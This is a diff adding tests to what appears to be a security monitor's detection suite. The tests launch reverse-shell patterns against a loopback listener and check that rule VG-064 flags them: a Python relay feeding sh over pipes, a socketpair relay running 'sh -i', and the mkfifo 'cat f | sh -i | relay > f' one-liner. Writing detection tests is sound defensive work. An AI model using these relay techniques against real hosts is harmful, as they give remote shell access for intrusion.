@@ -728,3 +728,39 @@ def capabilities(c, t):
     c._ordinary.append(("nobody with an ambient capability runs true", c.run(
         ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=+net_bind_service",
          "--ambient-caps=+net_bind_service", "/bin/true"]), None))
+
+
+def relays(c, t, port):
+    """VG-064 one process away: the shell reads its commands from a pipe or a
+    unix socket and a relay holds the network socket (`port`: the
+    catalogue's loopback listener, which answers "exit", so every shell
+    ends at once). A relay lives as long as its session; these stay a
+    second, as the monitor reads the relay's descriptors from /proc."""
+    ev = os.path.join(t, "evade-relay")
+    os.makedirs(ev)
+    conn = f"import socket, subprocess\ns = socket.create_connection(('127.0.0.1', {port}))\n"
+    # a python relay: the shell's stdin and stdout are pipes to it
+    c.py(conn + "data = s.recv(64)\n"
+         f"p = subprocess.Popen(['sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # {c.MARK}-pyrelay\n"
+         "import time; time.sleep(1)\np.communicate(data)")
+    c.expect("VG-064", "python relay: sh on pipes", marker=f"{c.MARK}-pyrelay",
+             fields={"proc.name": "sh", "proc.cmdline": "sh"})
+    # socat EXEC: style: a unix socketpair between the relay and the shell
+    c.py(conn + "a, b = socket.socketpair()\na.sendall(s.recv(64))\n"
+         f"p = subprocess.Popen(['sh', '-i'], stdin=b, stdout=b, stderr=b)  # {c.MARK}-sprelay\n"
+         "import time; time.sleep(1)\np.wait()")
+    c.expect("VG-064", "socketpair relay: sh -i on a unix socket", marker=f"{c.MARK}-sprelay",
+             fields={"proc.name": "sh", "proc.cmdline": "sh -i"})
+    # a named pipe and a network tool: cat f | sh -i | <relay> > f
+    fifo = f"{ev}/f-{c.MARK}"
+    relay = (f"import socket, sys\ns = socket.create_connection(('127.0.0.1', {port}))  # {c.MARK}-fifo\n"
+             "sys.stdout.buffer.write(s.recv(64)); sys.stdout.flush()\n"
+             "s.sendall(sys.stdin.buffer.read())")
+    script = f"{ev}/fifo-{c.MARK}.sh"
+    with open(script, "w") as f:
+        f.write(f"mkfifo {fifo}\ncat {fifo} | sh -i 2>&1 | {c.PY} -c \"{relay}\" > {fifo}\n")
+    c.run(["bash", script], timeout=30)
+    c.expect("VG-064", "mkfifo: cat f | sh -i | relay > f", marker=f"{c.MARK}-fifo",
+             fields={"evt.type": "connect"})
+    # ordinary: a shell reading a script from a pipe, its output to the terminal side
+    c._ordinary.append(("echo true | sh", c.run(["sh", "-c", "echo true | sh"]), None))
